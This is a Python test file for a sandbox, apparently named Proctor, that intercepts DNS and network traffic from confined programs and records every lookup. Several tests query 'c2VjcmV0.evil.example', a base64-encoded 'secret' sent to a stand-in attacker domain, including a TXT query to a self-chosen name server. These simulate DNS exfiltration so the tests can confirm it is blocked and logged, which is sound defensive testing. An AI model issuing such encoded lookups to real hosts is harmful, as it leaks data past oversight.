"""DNS inside: each question is answered by Proctor alone, by the policy, at once, and stands in the record."""

from __future__ import annotations

import errno
import json
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.live.place import Place

POLICY = '[network]\nallow = ["service.example:8443"]\n'
TIERS = pytest.mark.parametrize("tier", ["B", "C"])
SERVER = """
import json, os, select, socket, struct, sys, time
rows = [line.split() for line in open("/etc/resolv.conf")] if os.path.exists("/etc/resolv.conf") else []
server = next((row[1] for row in rows if row[:1] == ["nameserver"]), "127.0.0.1")
family = socket.AF_INET6 if ":" in server else socket.AF_INET
def query(name, kind=1, ident=7):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", ident, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
said = {}
def tried(name, action):
    begun = time.monotonic()
    try: said[name] = action()
    except OSError as error: said[name] = [type(error).__name__, error.errno]
    assert time.monotonic() - begun < 2, (name, "hung")
"""


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def asked(place: Place, tier: str, script: str, policy: str = POLICY) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """Run a script; return what it said, and the lookups that were recorded."""
    options = ["--tier", tier, "--quiet"]
    run = place.run(sys.executable, "-c", SERVER + script + "\nprint(json.dumps(said))", policy=policy, options=options)
    assert run.stdout, run.stderr.decode()
    assert (run.status, run.verdict["tier"]) == (0, tier)
    root = next(event["pid"] for event in run.of("process"))
    lookups = run.of("lookup")
    assert {event["pid"] for event in lookups} <= {root}
    assert {event["sensor"] for event in lookups} <= {"gateway"}
    return json.loads(run.stdout), [event["data"] for event in lookups]


@TIERS
def test_getaddrinfo_of_an_unmodified_program(place: Place, tier: str) -> None:
    said, lookups = asked(place, tier, """
def found(name, port): return [row[4][0] for row in socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)]
tried("allowed", lambda: found("service.example", 8443)); tried("other", lambda: found("c2VjcmV0.evil.example", 443))
tried("localhost", lambda: sorted(found("app.localhost", 80)))
""")  # fmt: skip
    gai = [socket.gaierror.__name__, socket.EAI_NONAME]
    assert said == {"allowed": ["127.64.0.1"], "other": gai, "localhost": ["127.0.0.1", "::1"]}
    answers = {(data["name"], data["type"]): data["answer"] for data in lookups}
    assert answers["service.example", "A"] == "answered"
    assert answers["service.example", "AAAA"] == "empty"
    assert answers["c2VjcmV0.evil.example", "A"] == answers["c2VjcmV0.evil.example", "AAAA"] == "no_such_name"
    assert {data["transport"] for data in lookups} == {"udp"}


@TIERS
def test_other_ways_to_send_a_query(place: Place, tier: str) -> None:
    """As musl, dig, c-ares and libuv do it: with and without connect, asking whom the answer is from."""
    said, lookups = asked(place, tier, """
def unconnected():
    with socket.socket(family, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK) as s:
        s.bind(("", 0)); assert s.getsockname()[1] > 0; s.sendto(query("service.example"), (server, 53))
        poll = select.poll(); poll.register(s, select.POLLIN); assert poll.poll(2000)
        data, _, flags, sender = s.recvmsg(512)
        return [data[-4:].hex(), flags, sender[:2] == (server, 53)]
def connected():
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.setsockopt(socket.SOL_IP, 11, 1); s.connect((server, 53)); s.send(query("service.example", 28))
        data, sender = s.recvfrom(512)
        return [s.getpeername()[:2] == sender[:2] == (server, 53), len(data), data[3] & 15]
def gathered():
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2); message = query("other.example", ident=9); s.sendmsg([message[:5], message[5:]], [], 0, (server, 53))
        first, second = bytearray(7), bytearray(500)
        size, _, _, sender = s.recvmsg_into([first, second])
        return [size, first[:2].hex(), first[3] & 15, sender[:2] == (server, 53)]
def streamed():
    with socket.create_connection((server, 53), 2) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1); message = query("service.example")
        framed = struct.pack(">H", len(message)) + message
        s.sendall(framed[:5]); time.sleep(0.05); s.sendall(framed[5:] + framed); got = b""
        while len(got) < 2 * 51: got += s.recv(999)
        return [got[47:51].hex(), len(got), s.getpeername()[:2] == (server, 53)]
def nonsense():
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3); s.connect((server, 53)); s.send(b"short"); s.send(b""); s.send(query("a.b")[:-2]); return s.recv(99)[3] & 15
for action in (unconnected, connected, gathered, streamed, nonsense): tried(action.__name__, action)
""")  # fmt: skip
    assert said == {
        "unconnected": ["7f400001", 0, True], "connected": [True, 33, 0], "gathered": [31, "0009", 3, True],
        "streamed": ["7f400001", 102, True], "nonsense": 1,
    }  # fmt: skip
    assert [data["transport"] for data in lookups if data["transport"] == "tcp"] == ["tcp"] * 2
    assert [data["bytes"] for data in lookups if data["answer"] == "malformed"] == [5, 0, 19]


MANY = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class IoVec(ctypes.Structure): _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))
class Header(ctypes.Structure):
    _fields_ = (("name", ctypes.c_void_p), ("room", ctypes.c_uint), ("vector", ctypes.POINTER(IoVec)), ("count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controls", ctypes.c_size_t), ("flags", ctypes.c_int))
class Message(ctypes.Structure): _fields_ = (("header", Header), ("size", ctypes.c_uint))
def messages(buffers, names):
    kept = [(ctypes.create_string_buffer(*buffer), ctypes.create_string_buffer(*name) if name else None) for buffer, name in zip(buffers, names)]
    made = (Message * len(kept))()
    for one, (buffer, name), (given, _) in zip(made, kept, zip(buffers, names)):
        size = len(given) if isinstance(given, bytes) else len(buffer)
        one.header.vector = ctypes.pointer(IoVec(ctypes.addressof(buffer), size)); one.header.count = 1
        if name: one.header.name, one.header.room = ctypes.addressof(name), 16
    return made, kept
def many():
    four = socket.inet_aton(server if ":" not in server else "127.0.0.1")
    address = struct.pack("=H", 2) + struct.pack(">H", 53) + four + bytes(8)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); asked = [query("service.example", ident=1), query("other.example", ident=2), query("service.example", 28, ident=3)]
        out, _keep = messages([(one, len(one)) for one in asked], [(address, 16)] * 3)
        sent = libc.sendmmsg(s.fileno(), out, 3, 0)
        back, kept = messages([(512,), (20,), (512,), (512,)], [(16,), None, (16,), (16,)])
        time.sleep(0.1)
        got = libc.recvmmsg(s.fileno(), back, 4, socket.MSG_DONTWAIT, None)
        return [sent, [one.size for one in out], got, [one.size for one in back], [one.header.flags for one in back],
                [one.header.room for one in back], kept[0][1].raw == kept[2][1].raw == address, [kept[n][0].raw[1] for n in range(3)]]
tried("many", many)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    back, kept = messages([(99,)], [(16,)])
    said["nothing"] = [libc.recvmmsg(s.fileno(), back, 1, socket.MSG_DONTWAIT, None), ctypes.get_errno()]
"""


@TIERS
def test_many_messages_in_one_call(place: Place, tier: str) -> None:
    said, lookups = asked(place, tier, MANY)
    assert said["many"] == [3, [33, 31, 33], 3, [49, 20, 33, 0], [0, 32, 0, 0], [16, 0, 16, 16], True, [1, 2, 3]]
    assert said["nothing"] == [-1, errno.EAGAIN]
    assert [data["answer"] for data in lookups] == ["answered", "no_such_name", "empty"]


@TIERS
def test_datagrams_go_nowhere_else(place: Place, tier: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outsider:
        outsider.bind(("127.0.0.1", 0))
        outsider.settimeout(0.2)
        port = outsider.getsockname()[1]
        said, lookups = asked(place, tier, f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tried("outside", lambda: s.sendto(b"x", ("192.0.2.1", 53 if {tier!r} == "B" else 5353)))
tried("message", lambda: s.sendmsg([b"x"], [], 0, ("192.0.2.1", 9)))
tried("connected", lambda: s.connect(("192.0.2.1", 443)))
for action in (lambda: s.sendto(b"x", ("127.0.0.1", {port})), lambda: s.sendmsg([b"x"], [], 0, ("127.0.0.1", {port}))):
    try: action()
    except OSError: pass
""")  # fmt: skip
        unreachable = ["OSError", 101]  # ENETUNREACH
        assert said == dict.fromkeys(("outside", "message", "connected"), unreachable)
        assert lookups == []
        with pytest.raises(TimeoutError):
            outsider.recv(9)


def test_a_name_server_of_one_s_own_choice_is_not_asked_and_is_recorded(place: Place) -> None:
    said, lookups = asked(place, "C", """
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2); s.sendto(query("c2VjcmV0.evil.example", 16), ("192.0.2.53", 53)); data, sender = s.recvfrom(512)
        return [data[3] & 15, *sender]
tried("asked", ask)
""")  # fmt: skip
    assert said == {"asked": [3, "192.0.2.53", 53]}
    assert [(data["name"], data["type"], data["server"]) for data in lookups] == [
        ("c2VjcmV0.evil.example", "TXT", "192.0.2.53")
    ]


def test_many_sockets_are_given_back(place: Place) -> None:
    """More than there may be at once: those that were closed are forgotten."""
    said, lookups = asked(place, "C", """
def many():
    for number in range(1500):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            if number % 100 == 0:
                s.settimeout(2); s.sendto(query("service.example"), (server, 53)); assert s.recv(99)[-4:].hex() == "7f400001"
    held = []
    try:
        while True: held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    except OSError as error: return [error.errno, len(held)]
said["many"] = many()
""")  # fmt: skip
    assert said["many"][0] in {23, 24}  # ENFILE of Proctor's own, or EMFILE of the agent's limit
    assert said["many"][1] >= 200
    assert len(lookups) == 15


@TIERS
def test_node_resolves_names(place: Place, tier: str) -> None:
    if shutil.which("node") is None:
        pytest.skip("node is not on this machine")
    script = """
const dns = require('dns');
dns.lookup('service.example', (e, a) => dns.resolve4('service.example', (f, b) => dns.resolveTxt('no.example', (g) =>
  console.log(JSON.stringify([e, a, f, b, g.code])))));
"""
    run = place.run("node", "-e", script, policy=POLICY, options=["--tier", tier, "--quiet"])
    assert json.loads(run.stdout) == [None, "127.64.0.1", None, ["127.64.0.1"], "ENOTFOUND"], run.stderr
    assert {event["data"]["type"] for event in run.of("lookup")} >= {"A", "TXT"}


@pytest.fixture
def named() -> Iterator[tuple[str, int]]:
    """A service of the host at a name that its own /etc/hosts gives the loopback."""
    rows = [line.partition("#")[0].split() for line in Path("/etc/hosts").read_text().splitlines()]
    found = next(
        ((row[0], row[1]) for row in rows if len(row) > 1 and row[0] in {"127.0.0.1", "::1"} and row[1] != "localhost"),
        None,
    )
    if found is None:
        pytest.skip("this machine's /etc/hosts gives the loopback no name but localhost")
    with socket.create_server((found[0], 0), family=socket.AF_INET6 if ":" in found[0] else socket.AF_INET) as server:

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.sendall(b"reached\n")

        thread = threading.Thread(target=serve)
        thread.start()
        yield found[1], server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_an_allowed_name_is_reached_by_a_program_that_knows_no_proxy(place: Place, named: tuple[str, int]) -> None:
    name, port = named
    script = f"print(socket.create_connection(({name!r}, {port}), 5).recv(9).decode().strip(), file=sys.stderr)"
    run = place.run(
        sys.executable, "-c", SERVER + script, policy=f'[network]\nallow = ["{name}:{port}"]\n', options=["--tier", "B"]
    )
    assert run.status == 0, run.stderr
    assert b"reached" in run.stderr
    assert [event["data"]["asked"] for event in run.of("flow")] == [f"{name}:{port}"] * 2
